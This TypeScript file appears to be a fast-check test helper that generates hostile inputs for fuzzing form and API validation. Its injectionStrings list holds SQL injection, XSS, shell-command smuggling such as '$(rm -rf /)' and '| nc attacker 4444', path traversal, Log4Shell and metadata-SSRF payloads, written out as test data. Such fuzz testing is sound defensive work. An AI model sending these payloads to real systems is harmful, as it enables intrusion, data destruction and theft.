import fc from "fast-check";

/** Strings people (and attackers) paste into forms and API bodies. */
export const injectionStrings = [
  '\'; DROP TABLE "User"; --',
  "' OR '1'='1",
  "1; SELECT pg_sleep(5)",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "$(rm -rf /)",
  "`id`",
  "; cat /etc/passwd",
  "| nc attacker 4444",
  "../../../../etc/passwd",
  "%00",
  "\u0000",
  "\u202Eexe.txt",
  "\uFEFF",
  "\uD800",
  "𝕲𝖆𝖓𝖙𝖗𝖞 🚀",
  "Ω≈ç√∫˜µ≤≥÷",
  "{{7*7}}",
  "${jndi:ldap://x/a}",
  "__proto__",
  "constructor",
  "http://169.254.169.254/latest/meta-data/",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  " ",
  "",
];

const controlChars = fc.string({
  unit: fc.integer({ min: 0, max: 31 }).map((code) => String.fromCharCode(code)),
  minLength: 1,
  maxLength: 20,
});

/** Hostile strings: injections, control characters, unicode of every plane, lone surrogates, very long. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...injectionStrings) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: controlChars },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 256, max: 20_000 })
      .chain((n) => fc.constantFrom("a", "é", "🚀", "/", "-", "0").map((c) => c.repeat(n))),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...injectionStrings), fc.string({ unit: "binary", maxLength: 10 }))
      .map(([a, b]) => `${a}${b}`),
  },
);

/** Anything a JSON body can hold, and some it cannot: wrong types, nesting, prototype keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileString },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      null,
      undefined,
      true,
      false,
      0,
      -1,
      1.5,
      Number.MAX_SAFE_INTEGER,
      -Number.MAX_SAFE_INTEGER,
      Number.NaN,
      Number.POSITIVE_INFINITY,
      2 ** 31,
      1e21,
    ),
  },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.array(hostileStringLeaf(), { maxLength: 5 }) },
  {
    weight: 1,
    arbitrary: fc.dictionary(
      fc.constantFrom("__proto__", "constructor", "kind", "a", "$where", "toString"),
      hostileStringLeaf(),
      { maxKeys: 3 },
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
);

function hostileStringLeaf(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(...injectionStrings),
    fc.integer(),
    fc.constant(null),
    fc.string({ unit: "binary", maxLength: 10 }),
  );
}

/**
 * An input for a schema: mostly objects with the schema's own keys (so validation reaches
 * each field, and sometimes the change behind it), filled from `values` per key, else
 * hostile values; sometimes not an object at all.
 */
export function hostileInput(
  keys: string[],
  values: Record<string, fc.Arbitrary<unknown>> = {},
): fc.Arbitrary<unknown> {
  const field = (key: string) =>
    values[key]
      ? fc.oneof({ weight: 2, arbitrary: values[key]! }, { weight: 1, arbitrary: hostileValue })
      : hostileValue;
  const record = keys.length
    ? fc.record(Object.fromEntries(keys.map((key) => [key, field(key)])), { requiredKeys: [] })
    : fc.constant({});
  const withExtra = fc
    .tuple(record, fc.dictionary(fc.string({ maxLength: 8 }), hostileValue, { maxKeys: 2 }))
    .map(([a, b]) => ({ ...b, ...a }));
  return fc.oneof(
    { weight: 6, arbitrary: record },
    { weight: 2, arbitrary: withExtra },
    { weight: 1, arbitrary: hostileValue },
  );
}
